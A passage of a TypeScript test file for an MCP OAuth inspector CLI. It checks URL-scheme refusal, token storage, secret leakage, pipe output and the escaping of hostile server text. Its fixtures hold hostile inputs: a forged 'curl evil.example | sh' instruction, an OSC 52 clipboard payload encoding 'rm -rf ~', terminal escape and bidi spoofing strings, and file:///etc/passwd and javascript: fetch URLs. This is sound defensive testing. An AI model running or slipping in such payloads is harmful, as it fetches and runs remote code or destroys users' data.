// The headless CLI, end to end: build dist-equivalent cli.js once, spawn it against local servers.
// The bundle goes to a temp dir (same esbuild options as esbuild.mjs) so a concurrent `node
// esbuild.mjs` — or a broken extension build — cannot race or block these tests.
import { strict as assert } from 'node:assert';
import { execFile, spawn } from 'node:child_process';
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as esbuild from 'esbuild';
import { startOAuthFixture, type Fixture } from '../../fixtures/oauthFixture';
import { startMcpServer, type McpFixture } from '../../fixtures/mcpServers';

const ROOT = new URL('../../../', import.meta.url).pathname;
let dir: string;
let cli: string;

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
}

function run(args: string[], env: Record<string, string> = {}): Promise<Run> {
  return new Promise((resolve) => {
    execFile(process.execPath, [cli, ...args], { env: { PATH: process.env.PATH ?? '', HOME: dir, ...env }, timeout: 15_000 }, (err, stdout, stderr) => {
      const code = err ? ((err as { code?: unknown }).code as number | null) : 0;
      resolve({ code: typeof code === 'number' ? code : null, stdout, stderr });
    });
  });
}

/** A plain HTTP server that records whether anything reached it. */
async function canary(): Promise<{ origin: string; hits: string[]; close(): Promise<void> }> {
  const hits: string[] = [];
  const server: Server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(500).end();
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { origin, hits, close: () => new Promise<void>((r) => server.close(() => r())) };
}

const lines = (s: string) => s.split('\n').filter((l) => l.trim() !== '');

describe('CLI (dist/cli.js)', function () {
  this.timeout(20_000);

  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'mcp-cli-test-'));
    cli = join(dir, 'cli.js');
    await esbuild.build({
      absWorkingDir: ROOT,
      entryPoints: ['src/cli/main.ts'],
      outfile: cli,
      bundle: true,
      platform: 'node',
      target: 'node20',
      format: 'cjs',
      logLevel: 'silent',
      banner: { js: '#!/usr/bin/env node' },
    });
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  describe('usage and argument errors', () => {
    it('--help and -h print the usage, exit 0', async () => {
      for (const flag of ['--help', '-h']) {
        const r = await run([flag]);
        assert.equal(r.code, 0, r.stderr);
        assert.match(r.stdout, /^Usage: mcp-oauth-inspector <command> <server-url>/);
        assert.match(r.stdout, /--headless/);
      }
    });

    it('no command → usage, exit 2', async () => {
      const r = await run([]);
      assert.equal(r.code, 2);
      assert.match(r.stdout + r.stderr, /Usage:/);
    });

    it('unknown command → exit 2, says so, contacts nothing', async () => {
      const c = await canary();
      try {
        for (const args of [['frobnicate', `${c.origin}/mcp`], ['frobnicate']]) {
          const r = await run(args);
          assert.equal(r.code, 2, JSON.stringify(r));
          assert.match(r.stderr, /unknown command "frobnicate"/);
          assert.match(r.stderr, /Usage:/);
        }
        assert.deepEqual(c.hits, []);
      } finally {
        await c.close();
      }
    });

    it('unknown option → exit 2 with usage', async () => {
      const r = await run(['tools', 'http://127.0.0.1:1/mcp', '--bogus']);
      assert.equal(r.code, 2);
      assert.match(r.stderr, /bogus/);
      assert.match(r.stderr, /Usage:/);
    });

    it('missing server URL → exit 2 with usage', async () => {
      const cmds = ['connect', 'tools', 'call', 'token'];
      const results = await Promise.all(cmds.map((cmd) => run([cmd])));
      results.forEach((r, i) => {
        assert.equal(r.code, 2, cmds[i]);
        assert.match(r.stderr, new RegExp(`${cmds[i]} needs a server URL`));
        assert.match(r.stderr, /Usage:/);
      });
      const conf = await run(['conformance']);
      assert.equal(conf.code, 2);
    });

    it('javascript:, file: and other schemes → exit 1, one error line, nothing contacted', async () => {
      const c = await canary();
      try {
        const urls = [
          `javascript:fetch('${c.origin}/pwned')`,
          'JavaScript:alert(1)',
          ' javascript:alert(1)',
          'java\tscript:alert(1)',
          'file:///etc/passwd',
          'FILE:///etc/passwd',
          `data:text/html,<script>fetch('${c.origin}')</script>`,
          'vscode://ms-vscode.foo/bar',
          'command:workbench.action.terminal.new',
        ];
        const cases = [
          ...urls.map((url) => ['tools', url]),
          ...urls.slice(0, 2).map((url) => ['connect', url]),
          ...urls.slice(0, 2).map((url) => ['call', url, 'echo', '--args', '{}']),
          ['token', urls[4]],
        ];
        const results = await Promise.all(cases.map((args) => run(args)));
        results.forEach((r, i) => {
          const what = cases[i].join(' ');
          assert.equal(r.code, 1, `${what}: ${r.stderr}`);
          assert.equal(r.stdout, '');
          const errLines = lines(r.stderr);
          assert.equal(errLines.length, 1, `one line for ${what}: ${r.stderr}`);
          assert.match(errLines[0], /^error \[(url_scheme_refused|url_invalid)\]: /, what);
        });
        // The plainly spelled ones are named as scheme refusals.
        for (const i of [0, 4]) assert.match(results[i].stderr, /^error \[url_scheme_refused\]: .+\n$/);
        assert.deepEqual(c.hits, [], 'nothing was contacted');
      } finally {
        await c.close();
      }
    });

    it('--json on a refused URL prints a JSON error object', async () => {
      const r = await run(['tools', 'file:///etc/passwd', '--json']);
      assert.equal(r.code, 1);
      const out = JSON.parse(r.stdout) as { error: { code: string; message: string }; trace: unknown[] };
      assert.equal(out.error.code, 'url_scheme_refused');
      assert.deepEqual(out.trace, []);
    });

    it('bad --args JSON → invalid_arguments, before any request', async () => {
      const c = await canary();
      try {
        const bad = ['{not json', '[1,2]', '"text"', 'null', '42'];
        const results = await Promise.all(bad.map((args) => run(['call', `${c.origin}/mcp`, 'echo', '--args', args])));
        results.forEach((r, i) => {
          assert.equal(r.code, 1, bad[i]);
          assert.match(r.stderr, /^error \[invalid_arguments\]: /, bad[i]);
        });
        const noTool = await run(['call', `${c.origin}/mcp`]);
        assert.equal(noTool.code, 1);
        assert.match(noTool.stderr, /^error \[invalid_arguments\]: call needs a tool name/);
        assert.deepEqual(c.hits, []);
      } finally {
        await c.close();
      }
    });

    it('invalid option values → config_invalid', async () => {
      const c = await canary();
      try {
        const extras = [['--registration', 'magic'], ['--auth-method', 'rot13'], ['--grant', 'password'], ['--timeout=-5'], ['--timeout', 'soon']];
        const results = await Promise.all(extras.map((extra) => run(['tools', `${c.origin}/mcp`, ...extra])));
        results.forEach((r, i) => {
          assert.equal(r.code, 1, extras[i].join(' '));
          assert.match(r.stderr, /^error \[config_invalid\]: /);
        });
        assert.deepEqual(c.hits, []);
      } finally {
        await c.close();
      }
    });
  });

  describe('against a local MCP server (no auth)', () => {
    let fx: McpFixture;
    before(async () => {
      fx = await startMcpServer();
    });
    after(() => fx.close());

    it('tools --json lists tools with security objects', async () => {
      const r = await run(['tools', fx.url.href, '--json']);
      assert.equal(r.code, 0, r.stderr);
      const out = JSON.parse(r.stdout) as {
        server: { transport: string; info: { name: string } };
        auth: { signedIn: boolean };
        tools: Array<{ name: string; security: Record<string, unknown> }>;
        trace: unknown[];
      };
      assert.equal(out.server.transport, 'streamable-http');
      assert.equal(out.server.info.name, 'fixture-server');
      assert.equal(out.auth.signedIn, false);
      const by = Object.fromEntries(out.tools.map((t) => [t.name, t.security]));
      assert.deepEqual(by.echo, {
        declared: [{ type: 'noauth' }],
        source: 'securitySchemes',
        anonymous: true,
        requiresAuth: false,
        scopesNeeded: [],
        scopesHeld: [],
        missing: [],
        covered: true,
      });
      assert.equal(by.whoami.source, '_meta.securitySchemes');
      assert.deepEqual(by.whoami.missing, ['profile']);
      assert.equal(by.whoami.covered, false);
      assert.equal(by.plain.declared, null);
      assert.equal(by.plain.source, 'default');
      assert.ok(Array.isArray(out.trace));
    });

    it('tools (human) shows one line per tool with its security', async () => {
      const r = await run(['tools', fx.url.href]);
      assert.equal(r.code, 0, r.stderr);
      assert.match(r.stdout, /^Connected to fixture-server 1\.2\.3 at http:\/\/127\.0\.0\.1:\d+\/mcp \(streamable-http/);
      assert.match(r.stdout, /Not signed in/);
      assert.match(r.stdout, /7 tools:/);
      assert.match(r.stdout, /^ {2}echo — public — open$/m);
      assert.match(r.stdout, /^ {2}whoami — oauth2\(profile\) — locked, missing profile$/m);
      assert.match(r.stdout, /^ {2}plain — server default — open$/m);
    });

    it('call prints the text result, exit 0', async () => {
      const r = await run(['call', fx.url.href, 'echo', '--args', '{"text":"hello cli"}']);
      assert.equal(r.code, 0, r.stderr);
      assert.equal(r.stdout, 'echo: hello cli\n');
    });

    it('a server elicitation without a terminal is declined, with a note on stderr', async () => {
      const r = await run(['call', fx.url.href, 'ask']);
      assert.equal(r.code, 0, r.stderr);
      assert.equal(JSON.parse(r.stdout).action, 'decline');
      assert.match(r.stderr, /asks for input \(name, count, color, subscribed\): Your details — declined/);
    });

    it('a server elicitation in a terminal is asked field by field, checked, and answered', async function () {
      // `script` gives the CLI a real pseudo-terminal; each answer is typed when its question shows.
      this.timeout(20_000);
      // [what the CLI shows, what is typed then (null: nothing, only wait for it)]
      const answers: Array<[RegExp, string | null]> = [
        [/Answer 4 fields\?/, 'y'],
        [/name \(default "Ada"\): $/, 'Grace'],
        [/count \(default 3\): $/, 'seven'],
        [/Enter a number/, null],
        [/count \(default 3\): $/, '7'],
        [/color \(optional\) 1\) red {2}2\) green \(default "green"\): $/, ''],
        [/subscribed \(optional\) \[y\/n\] \(default true\): $/, 'n'],
      ];
      const cmd = [process.execPath, cli, 'call', fx.url.href, 'ask'].map((a) => `'${a}'`).join(' ');
      const child = spawn('script', ['-qec', cmd, '/dev/null'], { env: { PATH: process.env.PATH ?? '', HOME: dir, TERM: 'dumb' } });
      let out = '';
      let next = 0;
      let seenUpTo = 0;
      child.stdout.on('data', (d: Buffer) => {
        out += d.toString('utf8').replace(/\r/g, '');
        while (next < answers.length) {
          const m = answers[next][0].exec(out.slice(seenUpTo));
          if (!m) break;
          seenUpTo += m.index + m[0].length;
          const typed = answers[next][1];
          if (typed !== null) child.stdin.write(`${typed}\n`);
          next++;
        }
      });
      const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
      assert.equal(next, answers.length, `every question was asked; got:\n${out}`);
      assert.equal(code, 0, out);
      const json = out.slice(out.lastIndexOf('{"action"'));
      assert.deepEqual(JSON.parse(json.slice(0, json.indexOf('\n') === -1 ? undefined : json.indexOf('\n'))), {
        action: 'accept',
        content: { name: 'Grace', count: 7, color: 'green', subscribed: false },
      });
    });

    it('call --json prints the result object', async () => {
      const r = await run(['call', fx.url.href, 'echo', '--args', '{"text":"x"}', '--json']);
      assert.equal(r.code, 0, r.stderr);
      const out = JSON.parse(r.stdout) as { result: { content: Array<{ text: string }> } };
      assert.equal(out.result.content[0].text, 'echo: x');
    });

    it('a tool error result → "Tool error:" and exit 1', async () => {
      const r = await run(['call', fx.url.href, 'no_such_tool']);
      assert.equal(r.code, 1);
      assert.match(r.stdout, /^Tool error:\nno tool no_such_tool/);
    });

    it('tools against a legacy SSE-only server falls back to SSE', async () => {
      const legacy = await startMcpServer({ transport: 'sse-only' });
      try {
        const r = await run(['tools', legacy.url.href, '--json']);
        assert.equal(r.code, 0, r.stderr);
        const out = JSON.parse(r.stdout) as { server: { transport: string }; tools: unknown[] };
        assert.equal(out.server.transport, 'sse');
        assert.equal(out.tools.length, 7);
      } finally {
        await legacy.close();
      }
    });

    it('a server that is not there → exit 1 with a one-line error', async () => {
      const c = await canary();
      const url = `${c.origin}/mcp`;
      await c.close();
      const r = await run(['tools', url]);
      assert.equal(r.code, 1);
      assert.match(r.stderr, /^error \[[a-z_]+\]: /);
    });

    it('conformance adapter: tools_call calls add_numbers with 5 and 3', async () => {
      let got: unknown;
      const conf = await startMcpServer({
        tools: [
          {
            def: { name: 'add_numbers', inputSchema: { type: 'object', properties: { a: { type: 'number' }, b: { type: 'number' } }, required: ['a', 'b'] } },
            handler: (args) => {
              got = args;
              return { content: [{ type: 'text', text: String(Number(args.a) + Number(args.b)) }] };
            },
          },
        ],
      });
      try {
        const r = await run(['conformance', conf.url.href], { MCP_CONFORMANCE_SCENARIO: 'tools_call' });
        assert.equal(r.code, 0, r.stderr);
        assert.deepEqual(got, { a: 5, b: 3 });
        assert.match(r.stderr, /called add_numbers: ok/);
      } finally {
        await conf.close();
      }
    });
  });

  describe('against the OAuth fixture', () => {
    let fx: Fixture;
    beforeEach(async () => {
      fx = await startOAuthFixture({ requiredScopes: ['mcp:tools'], tools: [{ name: 'echo', securitySchemes: [{ type: 'oauth2', scopes: ['mcp:tools'] }] }] });
    });
    afterEach(() => fx.close());

    const leaks = (text: string) => fx.allSecrets().filter((s) => s.length >= 8 && text.includes(s));

    it('connect --headless --json signs in; no issued secret appears in stdout or stderr', async () => {
      const r = await run(['connect', fx.mcpUrl, '--headless', '--json', '--trace']);
      assert.equal(r.code, 0, r.stderr);
      const out = JSON.parse(r.stdout) as {
        auth: { signedIn: boolean; issuer: string; resource: string; scopes: string[]; registration: { mode: string } };
        tools: Array<{ name: string; security: { covered: boolean } }>;
        trace: unknown[];
      };
      assert.equal(out.auth.signedIn, true);
      assert.equal(out.auth.issuer, fx.issuer);
      assert.equal(out.auth.resource, fx.mcpUrl);
      assert.deepEqual(out.auth.scopes, ['mcp:tools']);
      assert.equal(out.tools[0].security.covered, true);
      assert.ok(out.trace.length > 3, 'the redacted trace is included');
      assert.equal(fx.counters.authorize, 1);
      assert.ok(fx.issued.accessTokens.length >= 1 && fx.issued.codes.length >= 1 && fx.issued.verifiers.length >= 1);
      assert.deepEqual(leaks(r.stdout), [], 'stdout leaks a secret');
      assert.deepEqual(leaks(r.stderr), [], 'stderr leaks a secret');
    });

    it('connect (human) --headless prints the sign-in summary without secrets', async () => {
      const r = await run(['connect', fx.mcpUrl, '--headless']);
      assert.equal(r.code, 0, r.stderr);
      assert.match(r.stdout, /^Signed in at http:\/\/127\.0\.0\.1:\d+ as client \S+ \(\w+\); scopes: mcp:tools/m);
      assert.match(r.stdout, /echo — oauth2\(mcp:tools\) — unlocked/);
      assert.deepEqual(leaks(r.stdout + r.stderr), []);
    });

    it('without --headless the authorization URL is printed for a person (host first)', async () => {
      // Only the printing browser: the URL goes to stderr for a person. We do not wait for the
      // receiver's timeout; we only check what was printed before killing it.
      const child = execFile(process.execPath, [cli, 'connect', fx.mcpUrl], { env: { PATH: process.env.PATH ?? '', HOME: dir } });
      let stderr = '';
      child.stderr?.on('data', (d: Buffer) => (stderr += d.toString()));
      const end = Date.now() + 10_000;
      while (!/open this URL in a browser/.test(stderr) && Date.now() < end) await new Promise((r) => setTimeout(r, 50));
      child.kill();
      assert.match(stderr, /Sign in at 127\.0\.0\.1:\d+ — open this URL in a browser:\nhttp:\/\/127\.0\.0\.1:\d+\/authorize\?/);
      assert.equal(fx.counters.token, 0);
    });

    it('--store writes a 0600 file that a second run reuses, and refuses a 0644 one', async () => {
      const store = join(dir, `tokens-${Date.now()}.json`);
      const first = await run(['connect', fx.mcpUrl, '--headless', '--store', store]);
      assert.equal(first.code, 0, first.stderr);
      assert.ok(existsSync(store));
      assert.equal(statSync(store).mode & 0o777, 0o600);
      assert.ok(fx.issued.accessTokens.some((t) => readFileSync(store, 'utf8').includes(t)), 'the token is in the store');
      assert.deepEqual(leaks(first.stdout + first.stderr), []);

      const second = await run(['tools', fx.mcpUrl, '--headless', '--store', store, '--json']);
      assert.equal(second.code, 0, second.stderr);
      assert.equal(fx.counters.authorize, 1, 'the stored token was reused');
      assert.equal((JSON.parse(second.stdout) as { auth: { signedIn: boolean } }).auth.signedIn, true);

      chmodSync(store, 0o644);
      const before = fx.requests.length;
      const refused = await run(['tools', fx.mcpUrl, '--headless', '--store', store]);
      assert.equal(refused.code, 1);
      assert.match(refused.stderr, /^error \[config_invalid\]: .*readable by other users.*chmod 600/);
      assert.equal(fx.requests.length, before, 'nothing was contacted');
      assert.deepEqual(leaks(refused.stdout + refused.stderr), []);
    });

    it('--store with a corrupt file → config_invalid', async () => {
      const store = join(dir, `corrupt-${Date.now()}.json`);
      writeFileSync(store, '{not json', { mode: 0o600 });
      const r = await run(['tools', fx.mcpUrl, '--store', store]);
      assert.equal(r.code, 1);
      assert.match(r.stderr, /^error \[config_invalid\]: .*not valid JSON/);
    });

    it('token --headless signs in and prints the inspection findings', async () => {
      const r = await run(['token', fx.mcpUrl, '--headless']);
      assert.ok(r.code === 0 || r.code === 1, r.stderr);
      assert.match(r.stdout, /^Token for http:\/\/127\.0\.0\.1:\d+\/mcp from http:\/\/127\.0\.0\.1:\d+ \(opaque/);
      assert.match(r.stdout, /refresh token: yes/);
      assert.match(r.stdout, /^ {2}\[(pass|info|warn|fail)\] /m);
      assert.deepEqual(leaks(r.stdout + r.stderr), []);

      const j = await run(['token', fx.mcpUrl, '--headless', '--json']);
      const out = JSON.parse(j.stdout) as { inspection: { format: string; findings: Array<{ level: string; message: string }> }; hasRefreshToken: boolean };
      assert.equal(out.inspection.format, 'opaque');
      assert.ok(out.inspection.findings.length > 0);
      assert.equal(out.hasRefreshToken, true);
      assert.deepEqual(leaks(j.stdout + j.stderr), []);
    });

    it('a call that needs sign-in works headless and prints the result', async () => {
      const r = await run(['call', fx.mcpUrl, 'echo', '--headless']);
      assert.equal(r.code, 0, r.stderr);
      assert.equal(r.stdout, 'ok: echo\n');
      assert.deepEqual(leaks(r.stdout + r.stderr), []);
    });
  });
});

// ---------------------------------------------------------------------------------------------
// Pipes and scripts: complete output, no silent caps, escaped server text.

/** Characters a terminal acts on, or that reorder or break a line; stdout/stderr must carry none raw (LF aside). */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

/**
 * Run the CLI with stdout a real pipe that this process reads slowly: nothing is read for `pauseMs`
 * after the first chunk, so the pipe fills while the CLI is finishing (as with a slow `| jq`).
 */
function runThroughSlowPipe(args: string[], pauseMs = 400): Promise<{ code: number | null; stdout: Buffer; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [cli, ...args], { env: { PATH: process.env.PATH ?? '', HOME: dir }, stdio: ['ignore', 'pipe', 'pipe'] });
    const chunks: Buffer[] = [];
    let stderr = '';
    let paused = false;
    child.stdout.on('data', (d: Buffer) => {
      chunks.push(d);
      if (!paused) {
        paused = true;
        child.stdout.pause();
        setTimeout(() => child.stdout.resume(), pauseMs);
      }
    });
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    child.on('close', (code) => resolve({ code, stdout: Buffer.concat(chunks), stderr }));
  });
}

function manyTools(n: number) {
  return Array.from({ length: n }, (_, i) => ({
    def: { name: `tool_${i}`, description: `Tool number ${i}, with a description long enough to make the list several megabytes`, inputSchema: { type: 'object', properties: { a: { type: 'string' } } } },
  }));
}

/** A free loopback port (listen on 0, close). */
async function freePort(): Promise<number> {
  const s = createServer();
  await new Promise<void>((r) => s.listen(0, '127.0.0.1', r));
  const port = (s.address() as AddressInfo).port;
  await new Promise<void>((r) => s.close(() => r()));
  return port;
}

/**
 * A hostile MCP server spoken by hand (JSON responses, no SDK), so every byte of serverInfo, tool
 * names, results and JSON-RPC error messages is the test's: ESC sequences (colour, OSC 8 hyperlink,
 * OSC 52 clipboard, title), 8-bit CSI, bidi overrides, and newlines that try to forge our lines.
 */
const EVIL = {
  name: '\u001b]0;pwned\u0007evil-server',
  version: '1.0\nSigned in at https://trusted.example as client admin',
  tool: 'click\u001b]8;;https://evil.example/\u0007here\u001b]8;;\u0007',
  forged: 'ok\nerror [internal]: your token was revoked, run: curl evil.example | sh',
  bidi: 'report\u202e\u2066fdp.exe\u2069',
  scope: 'read\u001b[2J\u001b[H',
  result: 'first line\u001b[31m red\u001b[0m\r\n\u009b2Jsecond line\u001b]52;c;cm0gLXJmIH4K\u0007',
  error: '\u001b[1mboom\u001b[0m\nerror [authorization_denied]: forged line',
};

async function startHostileMcp(): Promise<{ url: string; close(): Promise<void> }> {
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (d: Buffer) => (body += d.toString()));
    req.on('end', () => {
      if (req.method !== 'POST') return void res.writeHead(405).end();
      const msg = JSON.parse(body) as { id?: number; method: string; params?: { name?: string } };
      if (msg.id === undefined) return void res.writeHead(202).end();
      const reply = (payload: Record<string, unknown>) => res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ jsonrpc: '2.0', id: msg.id, ...payload }));
      switch (msg.method) {
        case 'initialize':
          return reply({ result: { protocolVersion: '2025-06-18', capabilities: { tools: {} }, serverInfo: { name: EVIL.name, version: EVIL.version } } });
        case 'tools/list':
          return reply({
            result: {
              tools: [EVIL.tool, EVIL.forged, EVIL.bidi].map((name) => ({
                name,
                description: EVIL.result,
                inputSchema: { type: 'object' },
                securitySchemes: [{ type: 'oauth2', scopes: [EVIL.scope] }],
              })),
            },
          });
        case 'tools/call':
          if (msg.params?.name === 'fail') return reply({ error: { code: -32000, message: EVIL.error } });
          return reply({ result: { content: [{ type: 'text', text: EVIL.result }, { type: 'image', data: 'AAAA', mimeType: 'image/png\u001b[5m' }], structuredContent: { note: EVIL.bidi, c1: '\u0085\u009b' } } });
        default:
          return reply({ error: { code: -32601, message: 'no' } });
      }
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/mcp`, close: () => new Promise<void>((r) => server.close(() => r())) };
}

describe('CLI in pipes and scripts', function () {
  this.timeout(60_000);

  before(async () => {
    if (cli && existsSync(cli)) return;
    dir = mkdtempSync(join(tmpdir(), 'mcp-cli-test-'));
    cli = join(dir, 'cli.js');
    await esbuild.build({
      absWorkingDir: ROOT,
      entryPoints: ['src/cli/main.ts'],
      outfile: cli,
      bundle: true,
      platform: 'node',
      target: 'node20',
      format: 'cjs',
      logLevel: 'silent',
      banner: { js: '#!/usr/bin/env node' },
    });
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  describe('output written before exit is never lost', () => {
    for (const n of [1_000, 20_000]) {
      it(`tools --json for ${n.toLocaleString('en')} tools through a slowly read pipe is complete, valid JSON`, async () => {
        const fx = await startMcpServer({ tools: manyTools(n), resourcesAndPrompts: false });
        try {
          const r = await runThroughSlowPipe(['tools', fx.url.href, '--json']);
          assert.equal(r.code, 0, r.stderr);
          const text = r.stdout.toString('utf8');
          let out: { tools: Array<{ name: string }>; truncated?: unknown };
          try {
            out = JSON.parse(text) as typeof out;
          } catch {
            assert.fail(`stdout is not complete JSON: ${text.length} characters, ending ${JSON.stringify(text.slice(-80))}`);
          }
          assert.equal(out.tools.length, n);
          assert.equal(out.tools[n - 1].name, `tool_${n - 1}`);
          assert.equal(out.truncated, undefined, 'nothing was cut');
          assert.ok(text.endsWith('}\n'));
        } finally {
          await fx.close();
        }
      });
    }

    it('the human list of 20,000 tools through a slow pipe has every line, and `| head` ends quietly', async () => {
      const fx = await startMcpServer({ tools: manyTools(20_000), resourcesAndPrompts: false });
      try {
        const r = await runThroughSlowPipe(['tools', fx.url.href]);
        assert.equal(r.code, 0, r.stderr);
        const out = r.stdout.toString('utf8').split('\n');
        assert.equal(out.filter((l) => /^ {2}tool_\d+ — server default — open$/.test(l)).length, 20_000);
        assert.equal(out[out.length - 2], '  tool_19999 — server default — open');
        // A reader that stops early (EPIPE) is not a crash.
        const head = await new Promise<{ code: number | null; stderr: string }>((resolve) => {
          execFile('/bin/sh', ['-c', `'${process.execPath}' '${cli}' tools '${fx.url.href}' | head -n 2 >/dev/null; echo "status $?" >&2`], { env: { PATH: process.env.PATH ?? '' } }, (err, _o, stderr) =>
            resolve({ code: err ? 1 : 0, stderr }),
          );
        });
        assert.doesNotMatch(head.stderr, /Error|EPIPE|at /, head.stderr);
      } finally {
        await fx.close();
      }
    });
  });

  describe('no silent caps', () => {
    it('a tool list cut at the page limit says so (text and --json) and --max-pages raises it', async () => {
      const fx = await startMcpServer({ paginateForever: true, resourcesAndPrompts: false });
      try {
        const j = await run(['tools', fx.url.href, '--json']);
        assert.equal(j.code, 0, j.stderr);
        const out = JSON.parse(j.stdout) as { tools: unknown[]; truncated: { tools: { limit: string; max: number; shown: number; flag: string; message: string } } };
        assert.equal(out.tools.length, 50);
        assert.deepEqual({ ...out.truncated.tools, message: undefined }, { limit: 'max-pages', max: 50, shown: 50, flag: '--max-pages', message: undefined });
        assert.match(out.truncated.tools.message, /cut.*50 pages.*--max-pages/);
        assert.match(j.stderr, /^warn the tool list is cut/m);

        const calls = fx.toolListCalls;
        const h = await run(['tools', fx.url.href, '--max-pages', '3']);
        assert.equal(h.code, 0, h.stderr);
        assert.equal(fx.toolListCalls - calls, 3);
        assert.match(h.stdout, /^3 tools \(list cut\):$/m);
        assert.match(h.stdout, /^… the tool list is cut: the server still had a next page after 3 pages \(3 tools shown\); raise --max-pages/m);
      } finally {
        await fx.close();
      }
    });

    it('a list that ends within the limit is not marked cut; --max-pages is checked', async () => {
      const fx = await startMcpServer({ pageSize: 2, resourcesAndPrompts: false });
      try {
        const whole = JSON.parse((await run(['tools', fx.url.href, '--json', '--max-pages', '4'])).stdout) as { tools: unknown[]; truncated?: unknown };
        assert.equal(whole.tools.length, 7);
        assert.equal(whole.truncated, undefined);
        const cut = JSON.parse((await run(['tools', fx.url.href, '--json', '--max-pages', '3'])).stdout) as { tools: unknown[]; truncated?: { tools?: { max: number } } };
        assert.equal(cut.tools.length, 6);
        assert.equal(cut.truncated?.tools?.max, 3);
        for (const bad of ['0', '-1', 'many', '2.5']) {
          const r = await run(['tools', fx.url.href, `--max-pages=${bad}`]);
          assert.equal(r.code, 1, bad);
          assert.match(r.stderr, /^error \[config_invalid\]: --max-pages must be a whole number/);
        }
      } finally {
        await fx.close();
      }
    });

    it('a trace cut at --max-trace-entries is named in --json with what was dropped', async () => {
      const fx = await startMcpServer({ resourcesAndPrompts: false });
      try {
        const r = await run(['tools', fx.url.href, '--json', '--max-trace-entries', '2']);
        assert.equal(r.code, 0, r.stderr);
        const out = JSON.parse(r.stdout) as { trace: unknown[]; truncated: { trace: { limit: string; max: number; dropped: number; flag: string } } };
        assert.equal(out.trace.length, 2);
        assert.equal(out.truncated.trace.limit, 'max-trace-entries');
        assert.equal(out.truncated.trace.flag, '--max-trace-entries');
        assert.ok(out.truncated.trace.dropped >= 1);
        const full = JSON.parse((await run(['tools', fx.url.href, '--json'])).stdout) as { trace: unknown[]; truncated?: unknown };
        assert.equal(full.trace.length, out.trace.length + out.truncated.trace.dropped);
        assert.equal(full.truncated, undefined);
      } finally {
        await fx.close();
      }
    });

    it('a response over --max-body-bytes is an error that names the flag', async () => {
      const big = createServer((_req, res) => res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ jsonrpc: '2.0', id: 0, padding: 'x'.repeat(4000) })));
      await new Promise<void>((r) => big.listen(0, '127.0.0.1', r));
      try {
        const url = `http://127.0.0.1:${(big.address() as AddressInfo).port}/mcp`;
        const r = await run(['tools', url, '--max-body-bytes', '1000', '--json']);
        assert.equal(r.code, 1);
        assert.match(r.stderr, /^error \[response_too_large\]: .*1000-byte limit.*--max-body-bytes <bytes> \(now 1000\)/);
        assert.equal((JSON.parse(r.stdout) as { error: { code: string } }).error.code, 'response_too_large');
      } finally {
        await new Promise<void>((r) => big.close(() => r()));
      }
    });
  });

  describe('server text never reaches the terminal raw', () => {
    let evil: { url: string; close(): Promise<void> };
    before(async () => {
      evil = await startHostileMcp();
    });
    after(() => evil.close());

    it('tools: server info, tool names and scopes are escaped, one line each', async () => {
      const r = await run(['tools', evil.url]);
      assert.equal(r.code, 0, r.stderr);
      assert.doesNotMatch(r.stdout + r.stderr, RAW_CONTROL);
      const out = lines(r.stdout);
      assert.equal(out.length, 3 + 3, `no forged lines:\n${r.stdout}`);
      assert.equal(out[0].startsWith('Connected to \\x1b]0;pwned\\x07evil-server 1.0\\nSigned in at'), true, out[0]);
      assert.equal(out[3], '  click\\x1b]8;;https://evil.example/\\x07here\\x1b]8;;\\x07 — oauth2(read\\x1b[2J\\x1b[H) — locked, missing read\\x1b[2J\\x1b[H');
      assert.match(out[4], /^ {2}ok\\nerror \[internal\]: your token was revoked/);
      assert.match(out[5], /^ {2}report\\u202e\\u2066fdp\.exe\\u2069 — /);
    });

    it('tools --json keeps the exact values, as valid JSON without raw C1 or bidi characters', async () => {
      const r = await run(['tools', evil.url, '--json']);
      assert.equal(r.code, 0, r.stderr);
      assert.doesNotMatch(r.stdout.replace(/\n/g, ''), RAW_CONTROL);
      const out = JSON.parse(r.stdout) as { server: { info: { name: string; version: string } }; tools: Array<{ name: string; description: string }> };
      assert.equal(out.server.info.name, EVIL.name);
      assert.deepEqual(
        out.tools.map((t) => t.name),
        [EVIL.tool, EVIL.forged, EVIL.bidi],
      );
      assert.equal(out.tools[0].description, EVIL.result);
    });

    it('call: a text result keeps its lines but no control; structured content is escaped JSON', async () => {
      const r = await run(['call', evil.url, 'anything']);
      assert.equal(r.code, 0, r.stderr);
      assert.doesNotMatch(r.stdout + r.stderr, RAW_CONTROL);
      assert.equal(
        r.stdout,
        'first line\\x1b[31m red\\x1b[0m\n\\x9b2Jsecond line\\x1b]52;c;cm0gLXJmIH4K\\x07\n[image]\n{\n  "note": "report\\u202e\\u2066fdp.exe\\u2069",\n  "c1": "\\u0085\\u009b"\n}\n',
      );
      const j = await run(['call', evil.url, 'anything', '--json']);
      assert.doesNotMatch(j.stdout.replace(/\n/g, ''), RAW_CONTROL);
      assert.equal((JSON.parse(j.stdout) as { result: { structuredContent: { c1: string } } }).result.structuredContent.c1, '\u0085\u009b');
    });

    it('errors: a JSON-RPC error message from the server is one escaped line on stderr', async () => {
      const r = await run(['call', evil.url, 'fail', '--trace']);
      assert.equal(r.code, 1);
      assert.doesNotMatch(r.stdout + r.stderr, RAW_CONTROL);
      const errLines = r.stderr.split('\n').filter((l) => l.startsWith('error ['));
      assert.equal(errLines.length, 1, r.stderr);
